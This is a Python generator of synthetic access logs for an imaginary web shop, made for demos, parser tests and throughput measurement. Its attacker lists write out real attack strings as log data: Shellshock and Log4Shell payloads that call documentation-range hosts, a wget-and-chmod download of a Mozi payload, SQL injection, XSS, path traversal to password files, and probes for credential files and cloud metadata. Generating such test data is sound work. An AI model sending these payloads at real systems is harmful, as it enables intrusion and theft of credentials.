#!/usr/bin/env python3
"""Writes access logs as a busy web site would, for the demo, the tests and measurements.

    accesslog.py --lines 100000 --seed 7 --start 2026-03-01T00:00:00Z --span 86400 --out access.log
    accesslog.py --rate 2000 --lines 0 --out access.log        # endless, with the time of writing

Clients, paths and user agents come back as often as in reality (a few of them make most of the traffic, Zipf). Bots
come from the networks of their operators, and some only claim to. About 1 % of the lines are attacks, 0.2 % are what
makes parsers stumble: escaped quotes, TLS on the plain port, no request at all. The same options give the same lines
(with --rate: but for the times). Nothing but the standard library; everything that can be is rendered once, so that a
line costs two look-ups: some 500,000 lines/s.
"""

import argparse
import datetime
import itertools
import os
import random
import signal
import sys
import time
import zlib

MONTHS = ("Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec")
BLOCK_LINES = 8192  # drawn at once; part of what makes a seed's lines the same everywhere
DEFAULT_LINES_PER_S = 1000  # of the log's own time, without --span
TICK_S = 0.05  # between two writes with --rate
POOL_SIZE = 12000  # different requests of one kind of visitor

# Share of the lines, and how many different clients share them.
VISITORS = {
    "browser": (0.766, 4000),
    "bot": (0.15, 500),
    "tool": (0.072, 300),
    "attacker": (0.01, 120),
    "odd": (0.002, 60),
}


# --- user agents -----------------------------------------------------------------------------------------------------


def browser_agents():
    windows = "Windows NT 10.0; Win64; x64"
    mac = "Macintosh; Intel Mac OS X 10_15_7"
    chrome = "Mozilla/5.0 ({}) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{}.0.0.0 {}Safari/537.36{}"
    for version in (141, 140, 139, 138, 136, 131, 124, 109):
        yield chrome.format(windows, version, "", "")
        yield chrome.format(mac, version, "", "")
        yield chrome.format("X11; Linux x86_64", version, "", "")
        yield chrome.format("Linux; Android 10; K", version, "Mobile ", "")
    for version in (141, 140, 139, 137):
        yield chrome.format(windows, version, "", f" Edg/{version}.0.0.0")
        yield chrome.format(mac, version, "", f" Edg/{version}.0.0.0")
    for version, opera in ((139, 124), (137, 122)):
        yield chrome.format(windows, version, "", f" OPR/{opera}.0.0.0")
    for samsung, version in (("28.0", 130), ("27.0", 125)):
        yield (
            "Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) "
            f"SamsungBrowser/{samsung} Chrome/{version}.0.0.0 Mobile Safari/537.36"
        )
    for device in ("SM-S928B", "SM-A546B", "Pixel 8", "Pixel 6a", "2201117TG", "moto g power"):
        yield chrome.format(f"Linux; Android 14; {device}", 138, "Mobile ", "")
    for version in (144, 143, 142, 140, 128, 115):
        for system in (windows, "Macintosh; Intel Mac OS X 10.15", "X11; Linux x86_64", "X11; Ubuntu; Linux x86_64"):
            yield f"Mozilla/5.0 ({system}; rv:{version}.0) Gecko/20100101 Firefox/{version}.0"
    yield "Mozilla/5.0 (Android 14; Mobile; rv:143.0) Gecko/143.0 Firefox/143.0"
    for version in ("26.0", "18.6", "18.5", "17.6", "16.6"):
        yield f"Mozilla/5.0 ({mac}) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/{version} Safari/605.1.15"
    for system, version in (("18_6", "18.6"), ("18_5", "18.5"), ("17_7", "17.7"), ("16_7", "16.6"), ("15_8", "15.6")):
        safari = "AppleWebKit/605.1.15 (KHTML, like Gecko)"
        yield (
            f"Mozilla/5.0 (iPhone; CPU iPhone OS {system} like Mac OS X) {safari} Version/{version} Mobile/15E148 Safari/604.1"
        )
        yield f"Mozilla/5.0 (iPad; CPU OS {system} like Mac OS X) {safari} Version/{version} Mobile/15E148 Safari/604.1"
        yield f"Mozilla/5.0 (iPhone; CPU iPhone OS {system} like Mac OS X) {safari} CriOS/138.0.7204.119 Mobile/15E148 Safari/604.1"
    yield "Mozilla/5.0 (Windows NT 10.0; WOW64; Trident/7.0; rv:11.0) like Gecko"
    yield "Mozilla/5.0 (Windows NT 6.1; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/109.0.0.0 Safari/537.36"
    yield "Opera/9.80 (Windows NT 6.1; WOW64) Presto/2.12.388 Version/12.18"


# Agent, and the network that it really comes from (None: from anywhere).
BOTS = (
    ("Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", "66.249.66"),
    (
        "Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) AppleWebKit/537.36 (KHTML, like Gecko) "
        "Chrome/139.0.7258.66 Mobile Safari/537.36 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
        "66.249.79",
    ),
    ("Googlebot-Image/1.0", "66.249.66"),
    ("Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)", "157.55.39"),
    (
        "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm) "
        "Chrome/116.0.1938.76 Safari/537.36",
        "40.77.167",
    ),
    ("Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)", "5.255.253"),
    ("Mozilla/5.0 (compatible; Baiduspider/2.0; +http://www.baidu.com/search/spider.html)", "220.181.108"),
    ("DuckDuckBot/1.1; (+http://duckduckgo.com/duckduckbot.html)", "20.191.45"),
    (
        "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_5) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/13.1.1 "
        "Safari/605.1.15 (Applebot/0.1; +http://www.apple.com/go/applebot)",
        "17.58.98",
    ),
    ("Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)", "54.36.148"),
    ("Mozilla/5.0 (compatible; SemrushBot/7~bl; +http://www.semrush.com/bot.html)", "185.191.171"),
    ("Mozilla/5.0 (compatible; MJ12bot/v1.4.8; http://mj12bot.com/)", None),
    ("Mozilla/5.0 (compatible; DotBot/1.2; +https://opensiteexplorer.org/dotbot; help@moz.com)", "216.244.66"),
    (
        "Mozilla/5.0 (Linux; Android 7.0;) AppleWebKit/537.36 (KHTML, like Gecko) Mobile Safari/537.36 "
        "(compatible; PetalBot;+https://webmaster.petalsearch.com/site/petalbot)",
        "114.119.134",
    ),
    (
        "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.2; +https://openai.com/gptbot)",
        "20.171.207",
    ),
    (
        "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; OAI-SearchBot/1.0; +https://openai.com/searchbot)",
        None,
    ),
    (
        "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; ClaudeBot/1.0; +claudebot@anthropic.com)",
        "216.73.216",
    ),
    ("CCBot/2.0 (https://commoncrawl.org/faq/)", None),
    (
        "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; PerplexityBot/1.0; +https://perplexity.ai/bot)",
        None,
    ),
    (
        "Mozilla/5.0 (Linux; Android 5.0) AppleWebKit/537.36 (KHTML, like Gecko) Mobile Safari/537.36 (compatible; Bytespider)",
        None,
    ),
    ("Mozilla/5.0 (compatible; Amazonbot/0.1; +https://developer.amazon.com/support/amazonbot)", None),
    ("Mozilla/5.0 (compatible; DataForSeoBot/1.0; +https://dataforseo.com/dataforseo-bot)", None),
    ("Mozilla/5.0 (compatible; SeznamBot/4.0; +https://o-seznam.cz/napoveda/vyhledavani/en/seznambot-crawler/)", None),
    ("Mozilla/5.0 (compatible; Qwantbot/1.0; +https://help.qwant.com/bot/)", None),
    ("Mozilla/5.0 (compatible; BLEXBot/1.0; +http://webmeup-crawler.com/)", None),
    ("Mozilla/5.0 (compatible; archive.org_bot +http://archive.org/details/archive.org_bot)", "207.241.229"),
    ("facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)", "173.252.83"),
    ("meta-externalagent/1.1 (+https://developers.facebook.com/docs/sharing/webmasters/crawler)", "57.141.0"),
    ("Twitterbot/1.0", "199.16.157"),
    ("LinkedInBot/1.0 (compatible; Mozilla/5.0; Apache-HttpClient +http://www.linkedin.com)", "108.174.5"),
    ("Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)", None),
    ("Mozilla/5.0 (compatible; Discordbot/2.0; +https://discordapp.com)", None),
    ("TelegramBot (like TwitterBot)", "149.154.161"),
    ("WhatsApp/2.23.20.0", None),
    ("Pinterestbot/1.0 (+http://www.pinterest.com/bot.html)", None),
    ("Mozilla/5.0 (compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)", "216.144.250"),
    ("Pingdom.com_bot_version_1.4_(http://www.pingdom.com/)", None),
    ("Mozilla/5.0 (compatible; StatusCake)", None),
    ("Feedly/1.0 (+http://www.feedly.com/fetcher.html; like FeedFetcher-Google)", None),
    ("FreshRSS/1.24.3 (Linux; https://freshrss.org)", None),
    ("Tiny Tiny RSS/23.04 (https://tt-rss.org/)", None),
    ("NewsBlur Feed Fetcher - 12 subscribers", None),
    ("Mozilla/5.0 (compatible; W3C_Validator/1.3; +http://validator.w3.org/services)", None),
)

TOOLS = (
    "curl/7.88.1",
    "curl/8.5.0",
    "curl/8.14.1",
    "Wget/1.21.3",
    "Wget/1.24.5",
    "python-requests/2.28.1",
    "python-requests/2.32.3",
    "Python-urllib/3.11",
    "aiohttp/3.9.5",
    "python-httpx/0.27.0",
    "Go-http-client/1.1",
    "Go-http-client/2.0",
    "okhttp/4.12.0",
    "okhttp/3.14.9",
    "Apache-HttpClient/4.5.14 (Java/17.0.11)",
    "Java/17.0.11",
    "PostmanRuntime/7.43.0",
    "axios/1.7.2",
    "node-fetch/1.0 (+https://github.com/bitinn/node-fetch)",
    "undici",
    "libwww-perl/6.67",
    "Ruby",
    "Faraday v2.9.0",
    "GuzzleHttp/7",
    "Symfony HttpClient/Curl",
    "reqwest/0.12.4",
    "Dart/3.4 (dart:io)",
    "Dalvik/2.1.0 (Linux; U; Android 14; Pixel 8)",
    "ShopApp/4.2.1 (iPhone; iOS 18.6; Scale/3.00)",
    "ShopApp/4.1.0 (Android 14)",
    "CFNetwork/1498.700.2 Darwin/23.6.0",
    "kube-probe/1.30",
    "Prometheus/2.53.0",
    "Blackbox Exporter/0.25.0",
    "ELB-HealthChecker/2.0",
    "GoogleHC/1.0",
    "check_http/v2.3.3 (monitoring-plugins 2.3.3)",
    "Zabbix 6.0.30",
    "git/2.39.5",
    "-",
)

ATTACK_TOOLS = (
    "sqlmap/1.8.4#stable (https://sqlmap.org)",
    "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:Port Check)",
    "WPScan v3.8.25 (https://wpscan.com/)",
    "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
    "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
    "Mozilla/5.0 zgrab/0.x",
    "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
    "gobuster/3.6",
    "DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)",
    "Fuzz Faster U Fool v2.1.0-dev",
    "Hydra",
    "python-requests/2.25.1",
    "Go-http-client/1.1",
    "curl/7.58.0",
    "() { :;}; /bin/bash -c 'wget http://203.0.113.99/x.sh'",
    "${jndi:ldap://198.51.100.66:1389/Basic/Command/a}",
)


# --- what is asked for -----------------------------------------------------------------------------------------------

WORDS = (
    "alpine amber anchor autumn basket birch blue bottle bread bridge candle canvas castle cedar chair clay cloud coffee copper "
    "cotton dawn desk ember felt field forest glass gold green grey harbor hazel honey island ivory jacket juniper kettle lamp "
    "leather linen maple marble meadow mirror mist moss north oak ocean olive orange paper pearl pepper pine plum quartz rain "
    "river robin rose sand satin shadow silk silver slate snow spruce stone storm sugar summer table thistle tulip velvet walnut "
    "willow winter wool yarrow"
).split()
CATEGORIES = "kitchen garden living office outdoor kids lighting textiles books sale".split()
LANGUAGES = ("", "", "", "", "/de", "/fr", "/es")
SEARCHES = (
    "https://www.google.com/",
    "https://www.google.de/",
    "https://www.bing.com/",
    "https://duckduckgo.com/",
    "https://search.brave.com/",
)
ELSEWHERE = (
    "https://www.facebook.com/",
    "https://t.co/",
    "https://www.reddit.com/",
    "https://news.ycombinator.com/",
    "android-app://com.google.android.gm/",
)
SITE = "https://shop.example.com"


def zipf(count, exponent=1.05):
    return list(itertools.accumulate(1 / (rank + 3) ** exponent for rank in range(count)))


class Site:
    """The pages of a web shop, and how often each is visited."""

    def __init__(self, rng):
        self.rng = rng
        self.products = [
            f"/product/{n}-{rng.choice(WORDS)}-{rng.choice(WORDS)}" for n in rng.sample(range(1000, 99999), 2500)
        ]
        self.articles = [
            f"/blog/20{rng.randint(19, 26)}/{rng.randint(1, 12):02}/{rng.choice(WORDS)}-and-{rng.choice(WORDS)}"
            for _ in range(300)
        ]
        self.assets = [
            f"/static/{kind}/{rng.choice(WORDS)}.{rng.getrandbits(32):08x}.{kind}"
            for kind in ("js", "css")
            for _ in range(40)
        ]
        self.images = [
            f"/media/{rng.getrandbits(12):03x}/{rng.choice(WORDS)}-{rng.choice((320, 640, 1280))}.{rng.choice(('webp', 'jpg', 'avif'))}"
            for _ in range(1500)
        ]
        self.by_rank = {
            len(pages): zipf(len(pages)) for pages in (self.products, self.articles, self.assets, self.images)
        }

    def pick(self, pages):
        return self.rng.choices(pages, cum_weights=self.by_rank[len(pages)])[0]

    def page(self):
        rng = self.rng
        kind = rng.random()
        if kind < 0.10:
            return rng.choice(LANGUAGES) + "/"
        if kind < 0.50:
            return rng.choice(LANGUAGES) + self.pick(self.products)
        if kind < 0.65:
            page = f"/category/{rng.choice(CATEGORIES)}"
            return page + (
                f"?page={rng.randint(2, 30)}&sort={rng.choice(('price', 'new', 'rating'))}"
                if rng.random() < 0.5
                else ""
            )
        if kind < 0.78:
            return f"/search?q={rng.choice(WORDS)}{rng.choice(('', '+', '%20'))}{rng.choice(WORDS)}" + rng.choice(
                ("", "&lang=de", "&color=gr%C3%BCn")
            )
        if kind < 0.90:
            return self.pick(self.articles) + rng.choice(
                ("", "", f"?utm_source=newsletter&utm_medium=email&utm_campaign={rng.choice(WORDS)}")
            )
        return rng.choice(
            (
                "/cart",
                "/account",
                "/account/orders",
                "/login",
                "/about",
                "/contact",
                "/imprint",
                "/feed.xml",
                "/sitemap.xml",
            )
        )

    def referrer(self):
        kind = self.rng.random()
        if kind < 0.30:
            return "-"
        if kind < 0.55:
            return self.rng.choice(SEARCHES)
        if kind < 0.62:
            return self.rng.choice(ELSEWHERE)
        return SITE + self.page()


def status_and_size(rng, usual_size):
    kind = rng.random()
    if kind < 0.905:
        return 200, usual_size
    if kind < 0.935:
        return 304, 0
    if kind < 0.960:
        return rng.choice((301, 302, 302)), rng.randint(150, 400)
    if kind < 0.985:
        return 404, rng.randint(900, 5000)
    if kind < 0.990:
        return 403, rng.randint(150, 600)
    if kind < 0.993:
        return rng.choice((400, 401, 405, 429)), rng.randint(100, 400)
    if kind < 0.995:
        return 206, usual_size
    if kind < 0.998:
        return 500, rng.randint(500, 900)
    return rng.choice((502, 503, 503, 504)), rng.randint(150, 600)


def file_size(path):
    """A file is as large each time."""
    return 800 + zlib.crc32(path.encode()) % 90000


def browser_request(site):
    rng = site.rng
    version = "HTTP/2.0" if rng.random() < 0.35 else "HTTP/1.1"
    kind = rng.random()
    if kind < 0.35:
        request, size = f"GET {site.page()}", int(rng.lognormvariate(9.6, 0.7))
    elif kind < 0.60:
        path = site.pick(site.images)
        request, size = f"GET {path}", file_size(path)
    elif kind < 0.80:
        path = site.pick(site.assets)
        request, size = f"GET {path}", file_size(path)
    elif kind < 0.93:
        product = rng.randint(1000, 99999)
        call = rng.choice(
            (f"suggest?q={rng.choice(WORDS)}", "cart", f"stock/{product}", f"reviews?product={product}&limit=10")
        )
        request, size = f"GET /api/v1/{call}", rng.randint(40, 4000)
    elif kind < 0.985:
        request, size = (
            f"POST {rng.choice(('/api/v1/cart/items', '/api/v1/events', '/login', '/checkout', '/contact'))}",
            rng.randint(20, 900),
        )
    else:
        request, size = (
            f"{rng.choice(('PUT', 'DELETE', 'OPTIONS', 'PATCH'))} /api/v1/cart/items/{rng.randint(1, 9)}",
            rng.randint(0, 200),
        )
    status, size = status_and_size(rng, size)
    return f"{request} {version}", status, size, site.referrer()


def bot_request(site):
    rng = site.rng
    path = "/robots.txt" if rng.random() < 0.08 else "/sitemap.xml" if rng.random() < 0.03 else site.page()
    status, size = status_and_size(rng, int(rng.lognormvariate(9.6, 0.7)))
    return f"{'HEAD' if rng.random() < 0.04 else 'GET'} {path} HTTP/1.1", status, size, "-"


def tool_request(site):
    rng = site.rng
    calls = (
        f"/api/v1/products?page={rng.randint(1, 400)}",
        f"/api/v1/orders/{rng.randint(10**6, 10**7)}",
        f"/api/v1/stock/{rng.randint(1000, 99999)}",
    )
    path = rng.choice(calls + ("/healthz", "/status", "/metrics", "/feed.xml", "/downloads/catalog-2026.pdf"))
    method = rng.choices(("GET", "POST", "PUT", "DELETE", "HEAD"), (80, 12, 3, 2, 3))[0]
    status, size = status_and_size(rng, rng.randint(2, 20000))
    return f"{method} {path} HTTP/1.{0 if rng.random() < 0.03 else 1}", status, size, "-"


ATTACKS = (
    "/product/{n}?id={n}%27%20OR%20%271%27=%271",
    "/search?q=%27%20UNION%20SELECT%20username,password%20FROM%20users--%20",
    "/search?q={n}%20AND%20SLEEP(5)",
    "/api/v1/orders/{n};DROP%20TABLE%20orders",
    "/search?q=%3Cscript%3Ealert({n})%3C/script%3E",
    "/search?q=%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E",
    "/../../../../etc/passwd",
    "/static/..%2f..%2f..%2f..%2fetc%2fpasswd",
    "/download?file=....//....//etc/shadow",
    "/index.php?page=php://filter/convert.base64-encode/resource=config",
    "/cgi-bin/test.cgi?cmd=;cat%20/etc/passwd",
    "/shell?cd+/tmp;wget+http://203.0.113.77/mozi.a;chmod+777+mozi.a",
    "/boaform/admin/formLogin?username=admin&psd=admin",
    "/wp-login.php",
    "/wp-admin/setup-config.php",
    "/xmlrpc.php",
    "/wp-content/plugins/wp-file-manager/readme.txt",
    "/.env",
    "/.env.production",
    "/.git/config",
    "/.aws/credentials",
    "/phpmyadmin/index.php",
    "/pma/",
    "/administrator/",
    "/admin/config.php",
    "/actuator/env",
    "/solr/admin/info/system",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
    "/HNAP1/",
    "/login?next=${{jndi:ldap://198.51.100.66/{n}}}",
    "/backup-{n}.sql",
    "/api/v1/fetch?url=http://169.254.169.254/latest/meta-data/iam/",
)


def attack_request(site):
    rng = site.rng
    path = rng.choice(ATTACKS).format(n=rng.randint(1, 9999))
    status = rng.choices((404, 403, 400, 200, 301, 500), (62, 18, 8, 6, 3, 3))[0]
    method = "POST" if "login" in path or "xmlrpc" in path or rng.random() < 0.1 else "GET"
    return f"{method} {path} HTTP/1.1", status, rng.randint(150, 1500), rng.choice(("-", "-", "-", SITE + "/"))


def odd_request(site, nginx):
    """What clients send that is no proper request, as the server logs it."""
    rng = site.rng
    quote = r"\x22" if nginx else r"\""
    return rng.choice(
        (
            ("" if nginx else "-", 408 if not nginx else 400, 0, "-"),
            (
                r"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03"
                + "".join(rf"\x{rng.randint(128, 255):02x}" for _ in range(8)),
                400,
                150,
                "-",
            ),
            (r"\x03\x00\x00/*\xe0\x00\x00\x00\x00\x00Cookie: mstshash=Administr", 400, 150, "-"),
            ("PRI * HTTP/2.0", 400, 150, "-"),
            ("GET /", 400, 150, "-"),
            (f"GET {site.page()}", 200, 5120, "-"),
            ("CONNECT example.org:443 HTTP/1.1", 405, 150, "-"),
            ("OPTIONS * HTTP/1.0", 200, 0, "-"),
            ("GET http://www.example.net/ HTTP/1.1", 400, 150, "-"),
            (
                f"GET /search?q={quote}{rng.choice(WORDS)}{quote} HTTP/1.1",
                200,
                8211,
                f"{SITE}/search?q={quote}{rng.choice(WORDS)}{quote}",
            ),
            (f"GET /caf\\xc3\\xa9/{rng.choice(WORDS)} HTTP/1.1", 404, 1200, "-"),
            (f"GET /search?q={'a' * 4000} HTTP/1.1", 414, 250, "-"),
            ("t3 12.1.2", 400, 150, "-"),
        )
    )


def odd_agents(nginx):
    quote = r"\x22" if nginx else r"\""
    return (
        f"Mozilla/5.0 {quote}quoted{quote} (X11)",
        f"{quote}",
        "-",
        r"Mozilla/5.0 \xd0\xb1\xd1\x80",
        "x" * 900,
        "Mozilla/5.0 [en] (Win; I)",
    )


# --- clients ---------------------------------------------------------------------------------------------------------

# Networks of access providers and data centres, so that GeoIP has something to find, and those kept for documentation.
NETWORKS_V4 = (
    "81.2.69",
    "89.160.20",
    "2.125.160",
    "216.160.83",
    "175.16.199",
    "67.43.156",
    "202.196.224",
    "149.101.100",
    "84.17.48",
    "91.64.12",
    "93.192.41",
    "79.204.88",
    "176.199.23",
    "188.192.77",
    "82.64.19",
    "90.112.44",
    "151.36.20",
    "83.45.160",
    "62.163.99",
    "77.174.8",
    "86.140.22",
    "24.60.112",
    "73.158.64",
    "98.207.31",
    "71.190.180",
    "174.92.60",
    "187.60.12",
    "189.120.74",
    "200.89.68",
    "103.21.124",
    "106.51.72",
    "117.200.9",
    "126.78.201",
    "121.134.55",
    "49.36.180",
    "124.168.40",
    "41.13.204",
    "196.200.16",
    "102.89.34",
    "192.0.2",
    "198.51.100",
    "203.0.113",
)
NETWORKS_V6 = (
    "2001:db8:4c1",
    "2001:db8:77",
    "2a02:8108:50",
    "2003:e6:7f1",
    "2601:646:8a00",
    "2a01:cb00:9a",
    "2409:4072:6d",
    "2804:14d:5c",
)


def client_address(rng):
    if rng.random() < 0.22:
        return f"{rng.choice(NETWORKS_V6)}:{rng.randint(1, 0xffff):x}::{rng.randint(1, 0xffff):x}"
    return f"{rng.choice(NETWORKS_V4)}.{rng.randint(1, 254)}"


def user_name(rng):
    return rng.choice(("-",) * 60 + ("anna", "deploy", "j.smith", "m.mueller@example.com", "api-client", "admin"))


class Traffic:
    """Draws lines: who asks, and for what."""

    def __init__(self, seed, log_format):
        self.rng = random.Random(seed)
        self.nginx = log_format == "nginx"
        self.short = log_format == "common"
        self.visitors, weights = [], []
        site = Site(self.rng)
        agents = list(browser_agents())
        requests = {"browser": browser_request, "bot": bot_request, "tool": tool_request, "attacker": attack_request}
        requests["odd"] = lambda s: odd_request(s, self.nginx)
        for kind, (share, count) in VISITORS.items():
            pool = [self.render_request(*requests[kind](site)) for _ in range(POOL_SIZE)]
            clients = [self.visitor(kind, agents, pool) for _ in range(count)]
            ranks = [1 / (rank + 4) ** 0.95 for rank in range(count)]
            self.visitors += clients
            weights += [share * weight / sum(ranks) for weight in ranks]
        self.cumulative = list(itertools.accumulate(weights))

    def visitor(self, kind, agents, pool):
        """A client: what its lines begin with, what they end with, and what it may ask for."""
        rng = self.rng
        address, user = client_address(rng), "-"
        if kind == "bot":
            agent, network = rng.choices(BOTS, [1 / (rank + 2) for rank in range(len(BOTS))])[0]
            if network and rng.random() < 0.95:  # the rest only claims to be that bot
                address = f"{network}.{rng.randint(1, 254)}"
        elif kind == "attacker":
            agent = rng.choice(ATTACK_TOOLS) if rng.random() < 0.7 else rng.choice(agents)
        elif kind == "odd":
            agent = rng.choice(odd_agents(self.nginx))
        elif kind == "tool":
            agent, user = rng.choice(TOOLS), user_name(rng)
        else:
            agent, user = rng.choices(agents, [1 / (rank + 6) for rank in range(len(agents))])[0], user_name(rng)
        return f"{address} - {user} [", "\n" if self.short else f' "{agent}"\n', pool

    def render_request(self, request, status, size, referrer):
        """What stands between the time and the agent."""
        bytes_sent = size if size or self.nginx else "-"
        line = f'] "{request}" {status} {bytes_sent}'
        return line if self.short else f'{line} "{referrer}"'

    def lines(self):
        """Endless: (what stands before the time, what comes after it)."""
        pool_index = self.rng.random
        while True:
            for head, tail, pool in self.rng.choices(self.visitors, cum_weights=self.cumulative, k=BLOCK_LINES):
                yield head, pool[int(pool_index() * POOL_SIZE)] + tail


# --- writing ---------------------------------------------------------------------------------------------------------


def log_time(seconds):
    t = time.gmtime(seconds)
    return f"{t.tm_mday:02}/{MONTHS[t.tm_mon - 1]}/{t.tm_year}:{t.tm_hour:02}:{t.tm_min:02}:{t.tm_sec:02} +0000"


def write_all(descriptor, text):
    """Whole lines in one write where the system allows it, so that a reader rarely sees half of one."""
    data = memoryview(text.encode())
    while data:
        data = data[os.write(descriptor, data) :]


def write_fast(lines, count, start, lines_per_s, descriptor, stopped):
    """As fast as possible; the times advance evenly. All lines of one second are put together at once."""
    written = 0
    while not stopped and (not count or written < count):
        second = int(start + written / lines_per_s)
        end = max(written + 1, int((second + 1 - start) * lines_per_s))
        end = min(end, written + 20000, count or end)  # in pieces when a second has very many
        stamp = log_time(second)
        write_all(descriptor, "".join([head + stamp + rest for head, rest in itertools.islice(lines, end - written)]))
        written = end
    return written


def write_at_rate(lines, count, rate, descriptor, stopped):
    """At a pace, with the time of writing. What a pause has held up is not made good beyond a second."""
    written, begin = 0, time.monotonic()
    while not stopped and (not count or written < count):
        due = int((time.monotonic() - begin) * rate) - written
        if due > rate:
            begin += (due - rate) / rate
            due = int(rate)
        due = min(due, count - written) if count else due
        if due > 0:
            stamp = log_time(time.time())
            write_all(descriptor, "".join([head + stamp + rest for head, rest in itertools.islice(lines, due)]))
            written += due
        time.sleep(TICK_S if due > 0 else min(1 / rate, TICK_S))
    return written


def parse_start(text, span):
    """Seconds since the epoch; "now" means that the log ends now."""
    if text == "now":
        return int(time.time() - span)
    moment = datetime.datetime.fromisoformat(text)
    if moment.tzinfo is None:
        moment = moment.replace(tzinfo=datetime.UTC)
    return moment.timestamp()


def parse_arguments():
    parser = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    parser.add_argument("--lines", type=int, default=10000, help="how many; 0: until it is ended (default %(default)s)")
    parser.add_argument("--rate", type=float, default=0, metavar="LINES_PER_S", help="0: as fast as possible (default)")
    parser.add_argument("--format", choices=("combined", "common", "nginx"), default="combined")
    parser.add_argument("--seed", type=int, default=1, help="the same seed, format and start give the same lines")
    parser.add_argument(
        "--start",
        default="now",
        metavar="TIME",
        help="ISO 8601 time of the first line (UTC), or now: the last line is now",
    )
    parser.add_argument(
        "--span",
        type=float,
        default=0,
        metavar="SECONDS",
        help="time between the first and the last line (default: 1000 lines/s)",
    )
    parser.add_argument("--out", metavar="FILE", help="appended to; default: stdout")
    options = parser.parse_args()
    if options.lines < 0 or options.rate < 0 or options.span < 0:
        parser.error("--lines, --rate and --span cannot be negative")
    if options.span and not options.lines:
        parser.error("--span needs a number of --lines")
    options.lines_per_s = options.lines / options.span if options.span else DEFAULT_LINES_PER_S
    try:
        options.start_s = parse_start(options.start, options.lines / options.lines_per_s)
    except ValueError as error:
        parser.error(f"--start: {error}")
    return options


def main():
    options = parse_arguments()
    stopped = []  # filled by a signal: the lines under way are still written whole
    for name in (signal.SIGINT, signal.SIGTERM):
        signal.signal(name, lambda *_: stopped.append(True))
    lines = Traffic(options.seed, options.format).lines()
    descriptor = sys.stdout.fileno()
    if options.out:
        descriptor = os.open(options.out, os.O_WRONLY | os.O_CREAT | os.O_APPEND, 0o644)
    try:
        if options.rate:
            written = write_at_rate(lines, options.lines, options.rate, descriptor, stopped)
        else:
            written = write_fast(lines, options.lines, options.start_s, options.lines_per_s, descriptor, stopped)
    except BrokenPipeError:  # the reader has had enough
        return 0
    if options.out:
        print(f"{written} lines", file=sys.stderr)
    return 0


if __name__ == "__main__":
    sys.exit(main())
